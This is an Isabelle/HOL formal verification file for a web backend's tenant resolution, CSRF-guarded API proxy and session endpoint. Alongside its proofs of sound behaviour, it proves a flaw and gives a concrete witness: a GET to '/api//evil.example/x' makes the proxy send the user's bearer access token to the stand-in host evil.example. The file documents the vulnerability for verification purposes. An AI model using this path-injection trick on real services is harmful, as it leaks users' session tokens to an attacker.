(* ===== verification/WebCore.thy ===== *)
theory WebCore
  imports BffRoutes
begin

text \<open>
  packages/web-core/src: config.ts resolves the tenant from the host name, app.ts composes the OIDC
  routes with \<open>/session\<close> and the proxy \<open>/api/*\<close> that calls the service's API with the session's
  access token.
\<close>

section \<open>config.ts\<close>

definition DEFAULT_SCOPES :: "string list" where "DEFAULT_SCOPES = [''openid'', ''profile'', ''email'']"

record web_core_config =
  wc_public_scheme :: string
  wc_issuer :: string
  wc_redis_url :: "string option"
  wc_base_host :: string
  wc_spa_dir :: "string option"
  wc_service :: service_config

definition wc_cookie_secure :: "web_core_config \<Rightarrow> bool" where
  "wc_cookie_secure cfg = (wc_public_scheme cfg = ''https'')"

text \<open>The refinement of the schema: what a configuration served over https lacks.\<close>

definition https_issues :: "web_core_config \<Rightarrow> (string \<times> string) list" where
  "https_issues cfg =
     (if \<not> wc_cookie_secure cfg then []
      else (if wc_redis_url cfg = None then [(''REDIS_URL'', ''is required'')] else []) @
           (if \<not> prefix ''https://'' (wc_issuer cfg) then [(''ISSUER'', ''must be https'')] else []) @
           (if \<not> prefix ''https://'' (sv_api_base_url (wc_service cfg))
            then [(''API_BASE_URL'', ''must be https'')] else []) @
           (if wc_spa_dir cfg = None then [(''SPA_DIR'', ''is required'')] else []))"

definition resolve_client :: "web_core_config \<Rightarrow> string option \<Rightarrow> client_config option" where
  "resolve_client cfg host =
     (let suffix_text = ''.'' @ to_lower (wc_base_host cfg)
      in case host of
           None \<Rightarrow> None
         | Some h \<Rightarrow>
             (let lower = to_lower h
              in if \<not> suffix suffix_text lower then None
                 else (let slug = take (length lower - length suffix_text) lower
                       in if \<not> valid_slug slug then None
                          else Some (service_config.extend (wc_service cfg)
                            (client_config.fields slug
                              (wc_public_scheme cfg @ ''://'' @ lower @ ''/auth/callback''))))))"

definition resolve_client_by_id :: "web_core_config \<Rightarrow> string \<Rightarrow> service_config option" where
  "resolve_client_by_id cfg i = (if i = sv_client_id (wc_service cfg) then Some (wc_service cfg) else None)"

section \<open>app.ts\<close>

definition API_PREFIX :: string where "API_PREFIX = ''/api/''"
definition SAFE_METHODS :: "string list" where "SAFE_METHODS = [''GET'', ''HEAD'', ''OPTIONS'']"

text \<open>
  \<open>new URL(rel, base)\<close> for a reference that is empty or starts with a slash or a question mark, up
  to the normalisation of the path: a second slash starts a new authority (further slashes are
  ignored), otherwise the authority is the one of the base.
\<close>

definition url_scheme :: "string \<Rightarrow> string" where
  "url_scheme u = takeWhile (\<lambda>c. c \<noteq> CHR '':'') u"

definition after_scheme :: "string \<Rightarrow> string" where
  "after_scheme u = drop (length (url_scheme u) + 3) u"

definition url_authority :: "string \<Rightarrow> string" where
  "url_authority u = takeWhile (\<lambda>c. c \<notin> {CHR ''/'', CHR ''?'', CHR ''#''}) (after_scheme u)"

definition resolve_url :: "string \<Rightarrow> string \<Rightarrow> string" where
  "resolve_url rel base =
     (if prefix ''//'' rel then url_scheme base @ ''://'' @ dropWhile (\<lambda>c. c = CHR ''/'') rel
      else if prefix ''/'' rel then url_scheme base @ ''://'' @ url_authority base @ rel
      else if rel = [] then takeWhile (\<lambda>c. c \<noteq> CHR ''#'') base
      else takeWhile (\<lambda>c. c \<notin> {CHR ''?'', CHR ''#''}) base @ rel)"

record api_request =
  aq_method :: string
  aq_path :: string
  aq_search :: string
  aq_csrf :: "string option"
  aq_content_type :: "string option"
  aq_text :: string

text \<open>\<open>Api_threw\<close> is the exception that the app's error handler answers with 500.\<close>

datatype api_reply = Api_json string nat | Api_forward nat "string option" "json option" | Api_threw

definition upstream_url :: "'y client_config_scheme \<Rightarrow> api_request \<Rightarrow> string" where
  "upstream_url client rq =
     resolve_url (drop (length API_PREFIX - 1) (aq_path rq) @ aq_search rq) (sv_api_base_url client)"

definition upstream_init :: "'y client_config_scheme \<Rightarrow> api_request \<Rightarrow> http_request option" where
  "upstream_init client rq =
     (let bare = \<lparr>rq_method = aq_method rq, rq_url = upstream_url client rq, rq_headers = [], rq_body = None\<rparr>
      in if aq_method rq \<in> set SAFE_METHODS then Some bare
         else (case aq_content_type rq of
           None \<Rightarrow> Some bare
         | Some ty \<Rightarrow>
             if \<not> prefix ''application/json'' ty then None
             else Some (bare\<lparr>rq_headers := [(''content-type'', ''application/json'')],
               rq_body := Some (aq_text rq)\<rparr>)))"

definition api_proxy ::
  "('n, 'z) bff_env_scheme \<Rightarrow> client_config \<Rightarrow> tenant_session option \<Rightarrow> api_request \<Rightarrow> ('n, api_reply) bff_m" where
  "api_proxy env client session rq =
     (case session of
        None \<Rightarrow> State_Monad.return (Api_json ''unauthenticated'' 401)
      | Some x \<Rightarrow>
          if aq_method rq \<notin> set SAFE_METHODS \<and>
             (case aq_csrf rq of None \<Rightarrow> True | Some c \<Rightarrow> \<not> timingSafeEqualString c (tn_csrf x))
          then State_Monad.return (Api_json ''csrf_mismatch'' 403)
          else (case upstream_init client rq of
            None \<Rightarrow> State_Monad.return (Api_json ''unsupported_media_type'' 415)
          | Some init \<Rightarrow> do {
              result \<leftarrow> apiFetch env client x init;
              State_Monad.return (case result of
                  None \<Rightarrow> Api_threw
                | Some (Inl Session_gone) \<Rightarrow> Api_json ''unauthenticated'' 401
                | Some (Inl (Provider_unavailable _)) \<Rightarrow> Api_json ''temporarily_unavailable'' 503
                | Some (Inr (r, _)) \<Rightarrow> Api_forward (rs_status r) (rs_content_type r) (rs_json r))
            }))"

text \<open>GET /session: what the browser learns of its session; tokens are not part of it.\<close>

record session_user =
  su_id :: string
  su_email :: "string option"
  su_name :: "string option"

record session_response =
  sr_client_id :: string
  sr_service_name :: string
  sr_tenant_slug :: string
  sr_global_logout :: "string \<times> (string \<times> string) list"
  sr_user :: "session_user option"
  sr_csrf :: "string option"

definition session_response ::
  "('n, 'z) bff_env_scheme \<Rightarrow> client_config \<Rightarrow> tenant_session option \<Rightarrow> session_response" where
  "session_response env client session =
     \<lparr>sr_client_id = sv_client_id client, sr_service_name = sv_name client,
      sr_tenant_slug = cl_tenant_slug client,
      sr_global_logout = (resolve_url ''/logout'' (provider_issuer env),
        [(''client_id'', sv_client_id client), (''tenant'', cl_tenant_slug client)]),
      sr_user = map_option (\<lambda>x. \<lparr>su_id = tn_user x, su_email = tn_email x, su_name = tn_name x\<rparr>) session,
      sr_csrf = map_option tn_csrf session\<rparr>"

text \<open>A proxied request from the host name to the reply: tenant context, then the handler.\<close>

definition api_route ::
  "('n, 'z) bff_env_scheme \<Rightarrow> string option \<Rightarrow> string option \<Rightarrow> api_request \<Rightarrow> ('n, api_reply option) bff_m" where
  "api_route env host cookie rq = do {
     context \<leftarrow> tenantContext env host cookie;
     case context of
       None \<Rightarrow> State_Monad.return None
     | Some c \<Rightarrow> do { r \<leftarrow> api_proxy env (tx_client c) (tx_session c) rq; State_Monad.return (Some r) }
   }"

section \<open>Properties\<close>

lemma client_fields [simp]:
  "cl_tenant_slug (service_config.extend sv (client_config.fields a b)) = a"
  "cl_redirect_uri (service_config.extend sv (client_config.fields a b)) = b"
  "sv_client_id (service_config.extend sv (client_config.fields a b)) = sv_client_id sv"
  by (simp_all add: service_config.defs client_config.defs)

lemma resolved:
  "resolve_client cfg (Some h) = Some client \<longleftrightarrow>
     (\<exists>slug. valid_slug slug \<and> to_lower h = slug @ ''.'' @ to_lower (wc_base_host cfg) \<and>
        client = service_config.extend (wc_service cfg) (client_config.fields slug
          (wc_public_scheme cfg @ ''://'' @ to_lower h @ ''/auth/callback'')))"
  by (auto simp: resolve_client_def Let_def suffix_def simp del: length_to_lower)

lemma expand_parts:
  assumes "CHR ''{'' \<notin> set pre" "valid_slug slug"
  shows "expandRedirectUriTemplate (pre @ PLACEHOLDER @ post) slug = pre @ slug @ post"
proof -
  have "index_of PLACEHOLDER (pre @ PLACEHOLDER @ post) = Some (length pre)"
    using assms(1) unfolding PLACEHOLDER_def by (rule index_of_skip)
  from expand_valid [OF this assms(2)] show ?thesis by simp
qed

text \<open>
  A request reaches a tenant only through a host name that is the slug, a dot and the configured
  base host, in any case of letters: the client it gets has exactly that slug, which is valid, and
  its redirect_uri is the one the authorization server accepts for the template
  \<open>scheme://{tenant}.base/auth/callback\<close> and that slug.
\<close>

theorem resolved_client_matches_registration:
  assumes "resolve_client cfg (Some h) = Some client" "CHR ''{'' \<notin> set (wc_public_scheme cfg)"
  shows "valid_slug (cl_tenant_slug client) \<and>
    to_lower h = cl_tenant_slug client @ ''.'' @ to_lower (wc_base_host cfg) \<and>
    matchRedirectUriTemplate
      (wc_public_scheme cfg @ ''://'' @ PLACEHOLDER @ ''.'' @ to_lower (wc_base_host cfg) @ ''/auth/callback'')
      (cl_redirect_uri client) = Some (cl_tenant_slug client)"
proof -
  let ?pre = "wc_public_scheme cfg @ ''://''"
  let ?post = "''.'' @ to_lower (wc_base_host cfg) @ ''/auth/callback''"
  obtain slug where slug: "valid_slug slug" "to_lower h = slug @ ''.'' @ to_lower (wc_base_host cfg)"
    "cl_tenant_slug client = slug" "cl_redirect_uri client = ?pre @ slug @ ?post"
    using assms(1) by (auto simp: resolved)
  have "expandRedirectUriTemplate (?pre @ PLACEHOLDER @ ?post) slug = ?pre @ slug @ ?post"
    using assms(2) slug(1) by (intro expand_parts) simp_all
  moreover have "sublist PLACEHOLDER (?pre @ PLACEHOLDER @ ?post)" by (rule sublist_appendI)
  ultimately have "matchRedirectUriTemplate (?pre @ PLACEHOLDER @ ?post) (?pre @ slug @ ?post) = Some slug"
    unfolding match_iff_expand by (intro conjI slug(1)) (assumption, rule sym)
  then show ?thesis using slug by simp
qed

text \<open>
  Writes through the proxy need the session's CSRF value: a request whose method is not safe and
  does not carry it is answered 403, and one without a session 401, without calling the API and
  without changing anything.
\<close>

theorem proxy_guards_writes:
  "run_state (api_proxy env client None rq) s = (Api_json ''unauthenticated'' 401, s) \<and>
   (aq_method rq \<in> set SAFE_METHODS \<or> aq_csrf rq = Some (tn_csrf x) \<or>
    run_state (api_proxy env client (Some x) rq) s = (Api_json ''csrf_mismatch'' 403, s))"
  by (cases "aq_csrf rq") (auto simp: api_proxy_def)

lemma doubled_slash:
  assumes "CHR ''/'' \<notin> set h" "CHR ''?'' \<notin> set h" "CHR ''#'' \<notin> set h" "h \<noteq> []"
    and "CHR '':'' \<notin> set sch" "sv_api_base_url client = sch @ ''://'' @ rest"
    and "aq_path rq = ''/api//'' @ h @ ''/'' @ p"
  shows "url_authority (upstream_url client rq) = h"
proof -
  have sch: "url_scheme (sch @ CHR '':'' # r) = sch" for r
    using assms(5) unfolding url_scheme_def by (subst takeWhile_append2) auto
  have "hd h \<noteq> CHR ''/''" using assms(1,4) by (cases h) auto
  then have strip: "dropWhile (\<lambda>c. c = CHR ''/'') (''//'' @ h @ r) = h @ r" for r
    using assms(4) by (cases h) auto
  have "upstream_url client rq = sch @ ''://'' @ h @ ''/'' @ p @ aq_search rq"
    using sch strip [of "''/'' @ p @ aq_search rq"] assms(6,7)
    by (simp add: upstream_url_def API_PREFIX_def resolve_url_def)
  then have "after_scheme (upstream_url client rq) = h @ ''/'' @ p @ aq_search rq"
    using sch by (simp add: after_scheme_def)
  moreover have "takeWhile (\<lambda>c. c \<notin> {CHR ''/'', CHR ''?'', CHR ''#''}) (h @ ''/'' @ q) = h" for q
    using assms(1-3) by (subst takeWhile_append2) auto
  ultimately show ?thesis by (simp add: url_authority_def)
qed

text \<open>
  The proxy can be made to leave the API: for a path with a doubled slash after \<open>/api\<close> the next
  segment becomes the host of the upstream URL, so a GET of \<open>/api//evil.example/x\<close> sends the session's
  access token as a bearer token to \<open>evil.example\<close>, and its answer back to the browser.
\<close>

theorem proxy_sends_token_to_other_host:
  assumes "CHR ''/'' \<notin> set h" "CHR ''?'' \<notin> set h" "CHR ''#'' \<notin> set h" "h \<noteq> []"
    and "CHR '':'' \<notin> set sch" "sv_api_base_url client = sch @ ''://'' @ rest"
    and "aq_path rq = ''/api//'' @ h @ ''/'' @ p" "aq_method rq = ''GET''"
    and "\<not> needsRefresh x (bnow s)"
    and "http env sent (net s) = (Some r, n)" "\<not> expired_answer r"
    and "sent = withBearer \<lparr>rq_method = ''GET'', rq_url = upstream_url client rq, rq_headers = [],
      rq_body = None\<rparr> (tn_access_token x)"
  shows "url_authority (rq_url sent) = h \<and>
    (''Authorization'', ''Bearer '' @ tn_access_token x) \<in> set (rq_headers sent) \<and>
    run_state (api_proxy env client (Some x) rq) s =
      (Api_forward (rs_status r) (rs_content_type r) (rs_json r), s\<lparr>net := n\<rparr>)"
proof -
  have "url_authority (rq_url sent) = h"
    using doubled_slash [OF assms(1-7)] by (simp add: assms(12) withBearer_def)
  moreover have "(''Authorization'', ''Bearer '' @ tn_access_token x) \<in> set (rq_headers sent)"
    by (simp add: assms(12) withBearer_def set_header_def)
  moreover have "run_state (ensureFreshAccessToken env client x) s = (Inr x, s)"
    using assms(9) by (simp add: ensureFreshAccessToken_def)
  ultimately show ?thesis
    using assms(8,10,11,12)
    by (simp add: api_proxy_def upstream_init_def SAFE_METHODS_def apiFetch_def run_fetch)
qed

section \<open>Witnesses\<close>

definition fx_web_core :: web_core_config where
  "fx_web_core = \<lparr>wc_public_scheme = ''https'', wc_issuer = ''https://op'', wc_redis_url = None,
     wc_base_host = ''crm.io'', wc_spa_dir = None, wc_service = fx_service\<rparr>"

theorem resolved_client_matches_registration_witness:
  "\<exists>client. resolve_client fx_web_core (Some ''Acme.CRM.io'') = Some client \<and>
     matchRedirectUriTemplate (''https'' @ ''://'' @ PLACEHOLDER @ ''.'' @ ''crm.io'' @ ''/auth/callback'')
       (cl_redirect_uri client) =
       Some ''acme''"
proof -
  have lower: "to_lower ''Acme.CRM.io'' = ''acme'' @ ''.'' @ to_lower ''crm.io''" by code_simp
  define client :: client_config where "client = service_config.extend fx_service (client_config.fields ''acme''
      (''https'' @ ''://'' @ to_lower ''Acme.CRM.io'' @ ''/auth/callback''))"
  have client: "resolve_client fx_web_core (Some ''Acme.CRM.io'') = Some client"
    unfolding resolved by (intro exI [of _ "''acme''"]) (simp add: lower fx_slug fx_web_core_def client_def)
  have sel: "wc_public_scheme fx_web_core = ''https''" "wc_base_host fx_web_core = ''crm.io''"
    "cl_tenant_slug client = ''acme''" "to_lower ''crm.io'' = ''crm.io''"
    by (simp add: fx_web_core_def, simp add: fx_web_core_def, simp add: client_def, code_simp)
  have "CHR ''{'' \<notin> set (wc_public_scheme fx_web_core)" by (simp add: sel)
  from resolved_client_matches_registration [OF client this] show ?thesis
    using client unfolding sel by blast
qed

definition fx_outside :: api_request where
  "fx_outside = \<lparr>aq_method = ''GET'', aq_path = ''/api//evil.example/x'', aq_search = [], aq_csrf = None,
     aq_content_type = None, aq_text = []\<rparr>"

definition fx_outside_sent :: http_request where
  "fx_outside_sent = withBearer \<lparr>rq_method = ''GET'', rq_url = upstream_url fx_tenant_client fx_outside,
     rq_headers = [], rq_body = None\<rparr> (tn_access_token (fx_tenant_session 300))"

theorem proxy_sends_token_to_other_host_witness:
  "url_authority (rq_url fx_outside_sent) = ''evil.example'' \<and>
   (''Authorization'', ''Bearer a1'') \<in> set (rq_headers fx_outside_sent) \<and>
   fst (run_state (api_proxy fx_renewing fx_tenant_client (Some (fx_tenant_session 300)) fx_outside)
     (fx_bff_state (fx_tenant_session 300))) = Api_forward 200 None (Some fx_tokens_json)"
proof -
  have "url_authority (rq_url fx_outside_sent) = ''evil.example'' \<and>
    (''Authorization'', ''Bearer '' @ tn_access_token (fx_tenant_session 300)) \<in> set (rq_headers fx_outside_sent) \<and>
    run_state (api_proxy fx_renewing fx_tenant_client (Some (fx_tenant_session 300)) fx_outside)
      (fx_bff_state (fx_tenant_session 300)) =
      (Api_forward (rs_status (fx_answer 200 None (Some fx_tokens_json)))
        (rs_content_type (fx_answer 200 None (Some fx_tokens_json)))
        (rs_json (fx_answer 200 None (Some fx_tokens_json))), (fx_bff_state (fx_tenant_session 300))\<lparr>net := 1\<rparr>)"
    by (rule proxy_sends_token_to_other_host [where sch = "''http''" and rest = "''api''" and p = "''x''"])
       (simp_all add: fx_outside_sent_def fx_outside_def fx_tenant_client_def fx_tenant_session_def
         fx_bff_state_def needsRefresh_def ACCESS_TOKEN_REFRESH_MARGIN_SECONDS_def fx_renewing_def fx_bff_def
         expired_answer_def fx_answer_def)
  then show ?thesis by (simp add: fx_answer_def fx_tenant_session_def)
qed

end
